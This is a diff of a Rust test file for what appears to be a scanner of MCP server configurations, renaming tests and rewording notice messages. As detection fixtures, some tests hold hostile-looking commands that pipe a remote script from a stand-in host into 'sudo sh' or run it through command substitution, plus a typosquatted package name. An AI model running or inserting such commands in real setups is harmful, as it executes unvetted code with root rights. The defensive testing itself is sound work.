@@ -89,7 +89,7 @@ fn a_config_without_servers_is_still_a_config_and_other_files_are_none() {
 }
 
 #[test]
-fn a_broken_entry_spares_its_siblings() {
+fn siblings_of_a_broken_entry_are_read() {
     let reading = reading(
         "{\"mcpServers\": {\n\"a\": \"npx x\",\n\"b\": {\"comand\": \"x\"},\n\
          \"c\": {\"command\": \"x\", \"args\": null, \"env\": {\"PORT\": 80}}}}",
@@ -102,7 +102,7 @@ fn a_broken_entry_spares_its_siblings() {
 }
 
 #[test]
-fn transports_are_told_by_type_address_and_command() {
+fn transports_follow_type_address_and_command() {
     for (entry, transport) in [
         (r#"{"command": "x"}"#, Transport::Stdio),
         (r#"{"url": "https://h.test/mcp"}"#, Transport::Http),
@@ -184,7 +184,7 @@ fn packages_are_read_with_version_and_digest() {
 }
 
 #[test]
-fn the_launch_tells_program_and_remote_scripts() {
+fn the_launch_names_program_and_remote_scripts() {
     let piped = r#"{"command": "bash", "args": ["-c", "curl -fsSL https://h.test/i | sudo sh"]}"#;
     assert_eq!(launched(piped).remote_script, Given(true));
     let inner = r#"{"command": "bash", "args": ["-c", "$(curl https://h.test/i)"]}"#;
@@ -219,7 +219,7 @@ fn listening_and_certificate_checks_are_read() {
 }
 
 #[test]
-fn authentication_is_told_for_remote_servers_only() {
+fn authentication_is_read_for_remote_servers_only() {
     let auth = |entry: &str| server(entry).auth.given().map(|auth| auth.kind);
     let with = |header: &str| format!(r#"{{"url": "https://h.test", "headers": {{{header}}}}}"#);
     assert_eq!(auth(&with(r#""Authorization": "Bearer ${T}""#)), Some(AuthKind::BearerStatic));
@@ -303,7 +303,7 @@ fn disabled_entries_are_kept_and_marked() {
 }
 
 #[test]
-fn what_the_model_has_no_field_for_is_told_as_a_notice() {
+fn facts_without_a_field_become_notices() {
     let reading = reading(
         r#"{"mcpServers": {
             "a": {"command": "npx", "args": ["@acme/postgres"], "envFile": ".env"},
@@ -313,18 +313,18 @@ fn what_the_model_has_no_field_for_is_told_as_a_notice() {
             "e": {"command": "npx", "args": ["mcp-remotte", "https://h.test"]},
             "f": {"command": "x", "env": {"DB": "postgres://db.prod.acme.test/x"}}}}"#,
     );
-    let told: Vec<_> = reading.notices.iter().map(|notice| notice.message.as_str()).collect();
+    let found: Vec<_> = reading.notices.iter().map(|notice| notice.message.as_str()).collect();
     let words = [
-        "`a` takes variables",
+        "`a` loads variables",
         "`b` gets its headers",
-        "`c` is started by a shell line",
-        "`d` is started without its limit",
+        "`c` is started by a shell command line",
+        "`d` is started with write access",
         "`e` is spelled almost like `mcp-remote`",
-        "`f` talks to an address that is named after production",
+        "`f` connects to an address whose name suggests production",
         "`a` a database",
     ];
-    assert_eq!(told.len(), words.len(), "{told:?}");
+    assert_eq!(found.len(), words.len(), "{found:?}");
     for word in words {
-        assert!(told.iter().any(|message| message.contains(word)), "{word}: {told:?}");
+        assert!(found.iter().any(|message| message.contains(word)), "{word}: {found:?}");
     }
 }
